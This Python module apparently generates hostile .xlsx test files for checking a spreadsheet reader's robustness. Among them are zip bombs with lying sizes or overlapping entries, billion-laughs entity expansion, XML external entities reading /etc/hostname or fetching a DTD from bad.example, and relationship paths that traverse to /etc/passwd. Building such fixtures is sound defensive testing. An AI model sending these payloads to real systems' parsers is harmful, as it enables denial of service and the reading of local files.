"""Workbook packages that lie about what they hold: bombs, entities, duplicates, cuts, flips, odd parts."""

import io
import random
import struct
import zlib

from hostile_entry import (
    LINKS,
    MAIN,
    MEGABYTE,
    SOME_ROW,
    Collection,
    book_of,
    book_parts,
    book_with,
    closed,
    packed,
    packed_zeros,
    raw_entry,
    rels,
    sheet,
    text_row,
    zip_of,
)

PACKAGES = Collection()
_SHEET = "xl/worksheets/sheet1.xml"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_BILLION = f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'
_EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
_PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://bad.example/x.dtd"> %p;]>'


def _with_raw(name: str, content: bytes, crc: int, size: int, **lies: int) -> bytes:
    """A workbook whose sheet is a raw entry, said to be of `size`."""
    out, directory = io.BytesIO(), io.BytesIO()
    parts = book_parts()
    for part, text in parts.items():
        if part != name:
            data = str(text).encode()
            raw_entry(out, directory, part.encode(), packed(data), zlib.crc32(data), len(data))
    raw_entry(out, directory, name.encode(), content, crc, size, **lies)
    return closed(out, directory, len(parts))


@PACKAGES.add("bomb flat.xlsx", "one sheet part that expands to 200 MB")
def flat_bomb() -> bytes:
    content, crc = packed_zeros(200 * MEGABYTE, b" ")
    return _with_raw(_SHEET, content, crc, 200 * MEGABYTE)


@PACKAGES.add("bomb lying.xlsx", "the same, and the directory says that it is 1,000 bytes")
def lying_bomb() -> bytes:
    content, crc = packed_zeros(200 * MEGABYTE, b" ")
    return _with_raw(_SHEET, content, crc, 1000)


@PACKAGES.add("bomb lying zip64.xlsx", "a part whose size is given as four gigabytes")
def huge_claim() -> bytes:
    return _with_raw(_SHEET, packed(b"<a/>"), zlib.crc32(b"<a/>"), 0xFFFFFFFE)


@PACKAGES.add("bomb sheets.xlsx", "200 sheets of 1 MB each, 200 MB in all, 200 KB packed")
def many_sheets_bomb() -> bytes:
    return book_of(SOME_ROW + " " * MEGABYTE, sheets=[f"S{n}" for n in range(200)])


@PACKAGES.add("bomb overlapping.xlsx", "250 directory entries that all point at one 90 MB part")
def overlapping_bomb() -> bytes:
    out, directory = io.BytesIO(), io.BytesIO()
    parts = book_parts(sheets=[f"S{n}" for n in range(250)])
    content, crc = packed_zeros(90 * MEGABYTE, b" ")
    kernel: int | None = None
    for part, text in parts.items():
        if "/sheet" in part:
            at, kernel = kernel, out.tell() if kernel is None else kernel
            name = part.encode()
            raw_entry(out, directory, name, content, crc, 90 * MEGABYTE, offset=at)
        else:
            data = str(text).encode()
            raw_entry(out, directory, part.encode(), packed(data), zlib.crc32(data), len(data))
    return closed(out, directory, len(parts))


@PACKAGES.add("bomb one part many sheets.xlsx", "250 sheets that are one and the same part of 10,000 cells")
def one_part_for_all() -> bytes:
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, 10_001))
    parts = book_parts(rows)
    tabs = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="s1"/>' for n in range(1, 251))
    parts["xl/workbook.xml"] = f'<workbook xmlns="{MAIN}" xmlns:r="{LINKS}"><sheets>{tabs}</sheets></workbook>'
    return zip_of(parts)


@PACKAGES.add("entities in sheet.xlsx", "billion laughs in the sheet")
def laughs_in_sheet() -> bytes:
    return book_with(_SHEET, _BILLION + sheet(text_row(1, "&l9;")))


@PACKAGES.add("entities in workbook.xlsx", "billion laughs in the workbook part")
def laughs_in_book() -> bytes:
    return book_with("xl/workbook.xml", _BILLION + str(book_parts()["xl/workbook.xml"]).replace('"S"', '"&l9;"'))


@PACKAGES.add("entities in strings.xlsx", "an external entity that would read a file, in the shared strings")
def external_in_strings() -> bytes:
    text = f'{_EXTERNAL}<sst xmlns="{MAIN}"><si><t>&e;</t></si></sst>'
    return book_with("xl/sharedStrings.xml", text, strings="")


@PACKAGES.add("entities in styles.xlsx", "a parameter entity that would be fetched, in the styles")
def parameter_in_styles() -> bytes:
    return book_with("xl/styles.xml", f'{_PARAMETER}<styleSheet xmlns="{MAIN}"/>', styles="")


@PACKAGES.add("entities in rels.xlsx", "a document type in the relationships of the package")
def entities_in_rels() -> bytes:
    return book_with("_rels/.rels", _BILLION + str(book_parts()["_rels/.rels"]))


@PACKAGES.add("entities in utf-16.xlsx", "billion laughs that no search for bytes finds: the part is UTF-16")
def entities_in_utf16() -> bytes:
    return book_with(
        _SHEET, ('<?xml version="1.0" encoding="UTF-16"?>' + _BILLION + sheet(text_row(1, "&l9;"))).encode("utf-16")
    )


@PACKAGES.add("entities in properties.xlsx", "a document type in a part that is only looked at for its date")
def entities_in_properties() -> bytes:
    kind = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
    links = str(book_parts()["_rels/.rels"]).replace(
        "</Relationships>", f'<Relationship Id="p" Type="{kind}" Target="docProps/core.xml"/></Relationships>'
    )
    return zip_of({**book_parts(), "_rels/.rels": links, "docProps/core.xml": _BILLION + "<modified>&l9;</modified>"})


@PACKAGES.add("duplicate entries.xlsx", "the workbook part twice, the second one other")
def duplicate_entries() -> bytes:
    parts = list(book_parts().items())
    return zip_of([*parts, ("xl/workbook.xml", f'<workbook xmlns="{MAIN}"/>')])


@PACKAGES.add("duplicate entries case.xlsx", "the sheet twice, in other letters")
def duplicate_entries_in_case() -> bytes:
    return zip_of([*book_parts().items(), ("XL\\Worksheets\\SHEET1.xml", sheet(""))])


@PACKAGES.add("entries 20000.xlsx", "20,000 entries")
def many_entries() -> bytes:
    return zip_of({**book_parts(), **{f"xl/media/{n}": "" for n in range(20_000)}})


@PACKAGES.add("entries 900000.xlsx", "900,000 lines of directory for one entry: 46 MB that no reader should list")
def directory_of_lines() -> bytes:
    out, directory = io.BytesIO(), io.BytesIO()
    raw_entry(out, directory, b"[Content_Types].xml", packed(b""), 0, 0)
    line = io.BytesIO()
    raw_entry(out, line, b"a", b"", 0, 0, method=0, offset=0)
    count = 900_000
    lines = directory.getvalue() + line.getvalue() * count
    end64 = struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count + 1, count + 1, len(lines), out.tell())
    locator = struct.pack("<IQI", 0, out.tell() + len(lines), 1)
    end = struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return out.getvalue() + lines + b"PK\6\6" + end64 + b"PK\6\7" + locator + b"PK\5\6" + end


def _real() -> bytes:
    rows = "".join(text_row(r, f"dòng {r}", f"{r * 7919}") for r in range(1, 400))
    return book_of(rows, strings="".join(f"<si><t>chữ {n}</t></si>" for n in range(300)))


for percent in (1, 10, 50, 90, 99):

    @PACKAGES.add(f"truncated {percent}.xlsx", f"a workbook of which {percent} in a hundred bytes came")
    def truncated(percent: int = percent) -> bytes:
        data = _real()
        return data[: len(data) * percent // 100]


@PACKAGES.add("truncated front.xlsx", "a workbook whose first 200 bytes are missing")
def beheaded() -> bytes:
    return _real()[200:]


for seed in range(6):

    @PACKAGES.add(f"flipped {seed}.xlsx", f"a workbook with {2**seed} flipped bits")
    def flipped(seed: int = seed) -> bytes:
        data, chance = bytearray(_real()), random.Random(f"{seed} flips")
        for _ in range(2**seed):
            data[chance.randrange(30, len(data) - 30)] ^= 1 << chance.randrange(8)
        return bytes(data)


@PACKAGES.add("entry with password.xlsx", "a zip whose entries claim to be encrypted")
def encrypted_entries() -> bytes:
    return _patched(book_of(), 6, "<H", 1)


@PACKAGES.add("entry deflate64.xlsx", "a compression that zipfile cannot undo")
def odd_compression() -> bytes:
    return _patched(book_of(), 8, "<H", 9)


@PACKAGES.add("entry checksum.xlsx", "every checksum is wrong")
def wrong_checksums() -> bytes:
    return _patched(book_of(), 14, "<I", 0xDEADBEEF)


def _patched(data: bytes, offset: int, form: str, value: int) -> bytes:
    changed = bytearray(data)
    for signature, shift in ((b"PK\3\4", 0), (b"PK\1\2", 2)):
        position = changed.find(signature)
        while position >= 0:
            struct.pack_into(form, changed, position + offset + shift, value)
            position = changed.find(signature, position + 4)
    return bytes(changed)


@PACKAGES.add("comment.xlsx", "a comment of 65,535 bytes that holds a second end record")
def fake_end_in_comment() -> bytes:
    out, directory = io.BytesIO(), io.BytesIO()
    parts = book_parts()
    for part, text in parts.items():
        data = str(text).encode()
        raw_entry(out, directory, part.encode(), packed(data), zlib.crc32(data), len(data))
    return closed(out, directory, len(parts), (b"PK\5\6" + bytes(18)).ljust(65_535, b"x"))


@PACKAGES.add("no content types.xlsx", "a package without its list of types, otherwise whole")
def no_content_types() -> bytes:
    parts = book_parts()
    del parts["[Content_Types].xml"]
    return zip_of(parts)


@PACKAGES.add("no sheet part.xlsx", "the workbook names a sheet that is not there")
def no_sheet_part() -> bytes:
    parts = book_parts()
    del parts[_SHEET]
    return zip_of(parts)


@PACKAGES.add("no workbook part.xlsx", "a package with nothing but its list of types")
def no_workbook_part() -> bytes:
    return zip_of({"[Content_Types].xml": "<Types/>"})


@PACKAGES.add("rels loop.xlsx", "the sheet is the workbook itself, and the workbook refers to its own relationships")
def rels_loop() -> bytes:
    return book_with(
        "xl/_rels/workbook.xml.rels",
        rels(("s1", "worksheet", "workbook.xml"), ("x", "styles", "_rels/workbook.xml.rels")),
    )


@PACKAGES.add("rels outside.xlsx", "the sheet is said to be ../../../../etc/passwd")
def rels_outside() -> bytes:
    return book_with("xl/_rels/workbook.xml.rels", rels(("s1", "worksheet", "../../../../../../etc/passwd")))


@PACKAGES.add("rels external sheet.xlsx", "the sheet is said to lie on a server")
def rels_external() -> bytes:
    return book_with(
        "xl/_rels/workbook.xml.rels", rels(("s1", "worksheet", "http://bad.example/sheet.xml"), external=True)
    )


@PACKAGES.add("rels 400000.xlsx", "400,000 relationships")
def many_relationships() -> bytes:
    lines = ((f"x{n}", "image", "a") for n in range(400_000))
    return book_with("xl/_rels/workbook.xml.rels", rels(("s1", "worksheet", "worksheets/sheet1.xml"), *lines))
